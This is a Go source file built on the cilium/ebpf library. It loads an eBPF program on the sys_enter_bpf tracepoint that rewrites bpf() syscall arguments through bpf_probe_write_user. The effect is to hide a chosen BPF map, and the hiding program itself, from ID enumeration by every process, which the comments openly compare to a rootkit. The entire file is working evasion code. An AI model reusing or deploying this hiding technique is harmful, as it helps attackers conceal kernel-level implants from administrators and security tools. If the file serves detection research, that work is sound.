package hider

import (
	"errors"
	"fmt"
	"os"

	"github.com/cilium/ebpf"
	"github.com/cilium/ebpf/link"
	"golang.org/x/sys/unix"
)

// Hider is the loaded program and the map it hides.
type Hider struct {
	objs   hiderObjects
	link   link.Link
	MapID  uint32
	ProgID uint32
}

// Load loads the program. A kernel under lockdown (integrity or
// confidentiality) refuses bpf_probe_write_user: the error says so.
func Load() (*Hider, error) {
	h := &Hider{}
	if err := loadHiderObjects(&h.objs, nil); err != nil {
		return nil, fmt.Errorf("loading a program that calls bpf_probe_write_user (refused under lockdown): %w", err)
	}
	mi, err := h.objs.HiderIds.Info()
	if err != nil {
		h.Close()
		return nil, err
	}
	mid, _ := mi.ID()
	pi, err := h.objs.Hide.Info()
	if err != nil {
		h.Close()
		return nil, err
	}
	pid, _ := pi.ID()
	h.MapID, h.ProgID = uint32(mid), uint32(pid)
	return h, nil
}

// Map is the map the program hides.
func (h *Hider) Map() *ebpf.Map { return h.objs.HiderIds }

// Prog is the hiding program, which HideProg hides too.
func (h *Hider) Prog() *ebpf.Program { return h.objs.Hide }

// Hide starts hiding the map: from now on GET_NEXT_ID walks past it and
// GET_FD_BY_ID fails for it, for every process.
func (h *Hider) Hide() error {
	before, err := below(h.MapID, func(id uint32) (uint32, error) {
		next, err := ebpf.MapGetNextID(ebpf.MapID(id))
		return uint32(next), err
	})
	if err != nil {
		return err
	}
	if err := h.objs.HiderCfg.Update(uint32(0), uint64(h.MapID), 0); err != nil {
		return err
	}
	if err := h.objs.HiderCfg.Update(uint32(1), uint64(before), 0); err != nil {
		return err
	}
	if h.link != nil {
		return nil
	}
	l, err := link.Tracepoint("syscalls", "sys_enter_bpf", h.objs.Hide, nil)
	if err != nil {
		return fmt.Errorf("attaching to syscalls:sys_enter_bpf: %w", err)
	}
	h.link = l
	return nil
}

// HideProg hides the program too (from BPF_PROG_GET_NEXT_ID and
// BPF_PROG_GET_FD_BY_ID), as a rootkit hides the program doing the hiding;
// it takes effect once Hide attached it.
func (h *Hider) HideProg() error {
	before, err := below(h.ProgID, func(id uint32) (uint32, error) {
		next, err := ebpf.ProgramGetNextID(ebpf.ProgramID(id))
		return uint32(next), err
	})
	if err != nil {
		return err
	}
	if err := h.objs.HiderCfg.Update(uint32(2), uint64(h.ProgID), 0); err != nil {
		return err
	}
	return h.objs.HiderCfg.Update(uint32(3), uint64(before), 0)
}

// below is the largest id that next lists below id (0 if none): a
// GET_NEXT_ID from there or above would return id.
func below(id uint32, next func(uint32) (uint32, error)) (uint32, error) {
	before := uint32(0)
	for cur := uint32(0); ; {
		n, err := next(cur)
		if errors.Is(err, unix.ENOENT) || errors.Is(err, os.ErrNotExist) {
			return before, nil
		}
		if err != nil {
			return 0, err
		}
		if n >= id {
			return before, nil
		}
		before, cur = n, n
	}
}

// Close stops hiding and unloads.
func (h *Hider) Close() {
	if h.link != nil {
		h.link.Close()
	}
	h.objs.Close()
}
